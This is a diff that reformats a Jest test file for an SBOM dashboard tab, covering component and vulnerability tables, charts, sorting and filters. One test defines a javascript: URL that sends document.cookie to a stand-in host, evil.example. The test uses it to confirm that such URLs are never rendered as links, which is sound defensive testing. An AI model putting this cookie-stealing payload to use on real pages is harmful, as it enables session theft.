@@ -12,7 +12,14 @@ jest.mock('../common/ApexChart', () => ({
   preloadApexCharts: () => undefined,
   ApexChart: ({ label, series, options }: { label: string; series: number[]; options: { labels: string[] } }) => {
     mockChartDraws.push(label);
-    return <div data-testid="chart" aria-label={label} data-series={JSON.stringify(series)} data-labels={JSON.stringify(options.labels)} />;
+    return (
+      <div
+        data-testid="chart"
+        aria-label={label}
+        data-series={JSON.stringify(series)}
+        data-labels={JSON.stringify(options.labels)}
+      />
+    );
   },
 }));
 
@@ -20,7 +27,14 @@ const R1 = `${REPORTS}r-1/`;
 const SBOM = `${R1}sbom`;
 const FEED = `${R1}sbom/feed/`;
 /** A feed status with nothing to add: every component checked, every ecosystem covered. */
-const COVERED = { demo: false, checked: 13, unsupported: 0, no_purl: 0, coverage: [{ ecosystem: 'npm', packages: 13, advisories: 4200, demo_advisories: 0 }], vulnerabilities: {} };
+const COVERED = {
+  demo: false,
+  checked: 13,
+  unsupported: 0,
+  no_purl: 0,
+  coverage: [{ ecosystem: 'npm', packages: 13, advisories: 4200, demo_advisories: 0 }],
+  vulnerabilities: {},
+};
 
 function chart(title: string) {
   const el = within(screen.getByRole('region', { name: title })).getByTestId('chart');
@@ -90,8 +104,16 @@ describe('SBOM tab', () => {
       expect(names.slice(0, 2)).toEqual(['pkg-0000', 'pkg-0001']);
       expect(screen.getByText('1–10 of 1,115')).toBeInTheDocument();
       const first = rowsOf('Components')[0]!;
-      expect(within(first).getAllByRole('cell').map((c) => c.textContent)).toEqual(['pkg-0000', 'library', '1.0.0', 'N/A', 'MIT']);
-      expect(within(rowsOf('Components')[1]!).getAllByRole('cell').map((c) => c.textContent)).toEqual(['pkg-0001', 'library', '2.1.0', 'N/A', 'N/A']);
+      expect(
+        within(first)
+          .getAllByRole('cell')
+          .map((c) => c.textContent),
+      ).toEqual(['pkg-0000', 'library', '1.0.0', 'N/A', 'MIT']);
+      expect(
+        within(rowsOf('Components')[1]!)
+          .getAllByRole('cell')
+          .map((c) => c.textContent),
+      ).toEqual(['pkg-0001', 'library', '2.1.0', 'N/A', 'N/A']);
 
       await userEvent.click(screen.getByRole('combobox', { name: /Rows per page/ }));
       expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual(['5', '10', '25']);
@@ -107,14 +129,36 @@ describe('SBOM tab', () => {
       // lodash ×2, loose-envify, minimist ×2, package-lock.json, react, semver ×3.
       const sbom = loadSbom(SBOM_FILES.shop);
       await open(sbom);
-      expect(column('Components', 0)).toEqual(['cookies', 'jquery', 'js-tokens', 'lodash', 'lodash', 'loose-envify', 'minimist', 'minimist', 'package-lock.json', 'react']);
+      expect(column('Components', 0)).toEqual([
+        'cookies',
+        'jquery',
+        'js-tokens',
+        'lodash',
+        'lodash',
+        'loose-envify',
+        'minimist',
+        'minimist',
+        'package-lock.json',
+        'react',
+      ]);
       await userEvent.click(screen.getByRole('button', { name: 'Name' }));
       expect(column('Components', 0)!.slice(0, 4)).toEqual(['semver', 'semver', 'semver', 'react']);
       await userEvent.click(screen.getByRole('button', { name: 'Type' }));
       expect(column('Components', 1)![0]).toBe('application');
       await userEvent.click(screen.getByRole('button', { name: 'Version' }));
       // Numbers compare by value (4.0.0 before 4.17.20, 7.3.8 before 18.2.0).
-      expect(column('Components', 2)).toEqual(['0.2.3', '1.0.0', '1.2.8', '1.4.0', '3.4.1', '4.0.0', '4.17.20', '4.17.21', '5.7.1', '6.3.0']);
+      expect(column('Components', 2)).toEqual([
+        '0.2.3',
+        '1.0.0',
+        '1.2.8',
+        '1.4.0',
+        '3.4.1',
+        '4.0.0',
+        '4.17.20',
+        '4.17.21',
+        '5.7.1',
+        '6.3.0',
+      ]);
       const components = screen.getByRole('region', { name: 'Components' });
       await userEvent.click(within(components).getByRole('button', { name: 'Go to next page' }));
       expect(column('Components', 2)).toEqual(['7.3.8', '18.2.0', 'N/A']);
@@ -144,7 +188,9 @@ describe('SBOM tab', () => {
     it('is not shown without vulnerabilities, and the pie says so', async () => {
       await open(loadSbom(SBOM_FILES.portal));
       expect(screen.queryByRole('table', { name: 'Vulnerabilities' })).not.toBeInTheDocument();
-      expect(within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found')).toBeInTheDocument();
+      expect(
+        within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found'),
+      ).toBeInTheDocument();
     });
 
     it('lists the highest severity first by default, 10 a page, sortable by ID and Severity', async () => {
@@ -152,7 +198,11 @@ describe('SBOM tab', () => {
       expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('85');
       expect(chart('Vulnerability Severity')).toEqual({ Critical: 7, High: 40, Medium: 23, Low: 6, Unknown: 9 });
       const table = screen.getByRole('table', { name: 'Vulnerabilities' });
-      expect(within(table).getAllByRole('columnheader').map((c) => c.textContent)).toEqual(['Vulnerability ID', 'Severity', 'Source', 'Affected Components', 'KEV', 'EPSS']);
+      expect(
+        within(table)
+          .getAllByRole('columnheader')
+          .map((c) => c.textContent),
+      ).toEqual(['Vulnerability ID', 'Severity', 'Source', 'Affected Components', 'KEV', 'EPSS']);
       expect(rowsOf('Vulnerabilities')).toHaveLength(10);
       expect(screen.getByText('1–10 of 85')).toBeInTheDocument();
       expect(column('Vulnerabilities', 1)).toEqual([...Array(7).fill('Critical'), 'High', 'High', 'High']);
@@ -166,8 +216,16 @@ describe('SBOM tab', () => {
 
       await userEvent.click(within(table).getByRole('button', { name: 'Vulnerability ID' }));
       expect(column('Vulnerabilities', 0)).toEqual([
-        'CVE-2999-1', 'CVE-2999-9', 'CVE-2999-10', 'CVE-2999-11', 'CVE-2999-99', 'CVE-2999-100', 'CVE-2999-1000',
-        'GHSA-test-high-1', 'GHSA-test-high-2', 'GHSA-test-high-3',
+        'CVE-2999-1',
+        'CVE-2999-9',
+        'CVE-2999-10',
+        'CVE-2999-11',
+        'CVE-2999-99',
+        'CVE-2999-100',
+        'CVE-2999-1000',
+        'GHSA-test-high-1',
+        'GHSA-test-high-2',
+        'GHSA-test-high-3',
       ]);
       await userEvent.click(within(table).getByRole('button', { name: 'Vulnerability ID' }));
       expect(column('Vulnerabilities', 0)![0]).toBe('MAL-2999-9');
@@ -176,7 +234,9 @@ describe('SBOM tab', () => {
     it('names affected components, "+N more" past three', async () => {
       // Sorted by id the page holds CVE-2999-1000 and CVE-2999-9, which affect four components each.
       await open(withFindings());
-      await userEvent.click(within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }));
+      await userEvent.click(
+        within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }),
+      );
       const cells = column('Vulnerabilities', 3);
       expect(cells.some((text) => /^[^,]+@[\d.]+$/.test(text!))).toBe(true);
       expect(cells.some((text) => /\+\d+ more$/.test(text!))).toBe(true);
@@ -199,7 +259,11 @@ describe('SBOM tab', () => {
       const ratings = within(dialog).getByRole('table', { name: 'Ratings' });
       expect(within(ratings).getAllByRole('row')).toHaveLength(1 + sbom.vulnerabilities[0]!.ratings.length);
       const nvd31 = within(ratings).getByText('CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N').closest('tr')!;
-      expect(within(nvd31).getAllByRole('cell').map((c) => c.textContent)).toEqual(['nvd', 'Medium', 'CVSSv31', '6.1', 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N']);
+      expect(
+        within(nvd31)
+          .getAllByRole('cell')
+          .map((c) => c.textContent),
+      ).toEqual(['nvd', 'Medium', 'CVSSv31', '6.1', 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N']);
 
       const advisory = within(dialog).getByRole('link', { name: 'https://example.com/advisories/CVE-2999-1005' });
       expect(advisory).toHaveAttribute('target', '_blank');
@@ -210,15 +274,23 @@ describe('SBOM tab', () => {
     it('never turns a javascript: URL from the SBOM into a link', async () => {
       const sbom = loadSbom(SBOM_FILES.shop);
       const evil = 'javascript:fetch("https://evil.example/?c="+document.cookie)';
-      const vulnerability = { ...sbom.vulnerabilities[0]!, source: { name: 'ghsa', url: evil }, advisories: [{ title: 'Read me', url: evil }] };
+      const vulnerability = {
+        ...sbom.vulnerabilities[0]!,
+        source: { name: 'ghsa', url: evil },
+        advisories: [{ title: 'Read me', url: evil }],
+      };
       const jquery = sbom.components.find((c) => c.name === 'jquery')!;
-      const components = sbom.components.map((c) => (c === jquery ? { ...c, licenses: [{ license: { id: 'MIT', url: evil } }] } : c));
+      const components = sbom.components.map((c) =>
+        c === jquery ? { ...c, licenses: [{ license: { id: 'MIT', url: evil } }] } : c,
+      );
       await open({ ...sbom, components, vulnerabilities: [vulnerability] });
 
       await userEvent.click(screen.getByText('CVE-2999-1005'));
       const dialog = await screen.findByRole('dialog', { name: 'CVE-2999-1005' });
       expect(within(dialog).getByText('Read me').closest('a')).toBeNull();
-      const source = within(dialog).getAllByText('Source').find((el) => el.tagName === 'DT')!;
+      const source = within(dialog)
+        .getAllByText('Source')
+        .find((el) => el.tagName === 'DT')!;
       expect(source.nextElementSibling).toHaveTextContent('ghsa');
       expect(source.nextElementSibling!.querySelector('a')).toBeNull();
       expect(within(dialog).queryAllByRole('link')).toHaveLength(0);
@@ -256,11 +328,17 @@ describe('SBOM tab', () => {
     await open(loadSbom(SBOM_FILES.shop));
     expect(screen.getByRole('combobox', { name: 'Filter by Component Type' })).toHaveTextContent('All Types');
     await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
-    expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual(['All Types', 'library (12)', 'application (1)']);
+    expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual([
+      'All Types',
+      'library (12)',
+      'application (1)',
+    ]);
     await userEvent.click(screen.getByRole('option', { name: 'application (1)' }));
     expect(column('Components', 0)).toEqual(['package-lock.json']);
     expect(rowsOf('Vulnerabilities')[0]).toHaveTextContent('No vulnerabilities affect components of this type.');
-    expect(within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found')).toBeInTheDocument();
+    expect(
+      within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found'),
+    ).toBeInTheDocument();
     expect(chart('Component Types')).toEqual({ library: 12, application: 1 });
     await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
     await userEvent.click(await screen.findByRole('option', { name: 'library (12)' }));
@@ -298,7 +376,9 @@ describe('SBOM tab', () => {
 
     const draws = mockChartDraws.length;
     await userEvent.click(within(screen.getByRole('table', { name: 'Components' })).getByRole('button', { name: 'Version' }));
-    await userEvent.click(within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }));
+    await userEvent.click(
+      within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }),
+    );
     await userEvent.click(screen.getAllByRole('button', { name: 'Go to next page' })[0]!);
     await userEvent.click(rowsOf('Components')[0]!);
     expect(await screen.findByRole('dialog')).toBeInTheDocument();
